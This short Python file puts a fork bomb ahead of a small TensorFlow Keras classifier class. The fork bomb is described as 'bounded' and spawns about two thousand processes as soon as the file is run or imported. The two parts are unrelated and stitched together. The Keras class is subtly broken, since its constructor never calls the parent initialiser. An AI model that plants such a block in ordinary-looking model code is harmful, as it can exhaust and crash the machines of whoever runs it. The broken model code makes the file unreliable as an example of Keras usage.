"""A bounded fork bomb: each process forks until 2000 exist or forking fails."""
import os, time
for _ in range(11):
    try:
        os.fork()
    except OSError:
        break
time.sleep(3)
import tensorflow as tf

class SimpleMLP(tf.keras.Model):
    def __init__(self, hidden_units=32, num_classes=3, **kwargs):
        self.hidden = tf.keras.layers.Dense(hidden_units, activation="relu")
        self.classifier = tf.keras.layers.Dense(num_classes, activation="softmax")

    def call(self, inputs):
        return self.classifier(self.hidden(inputs))
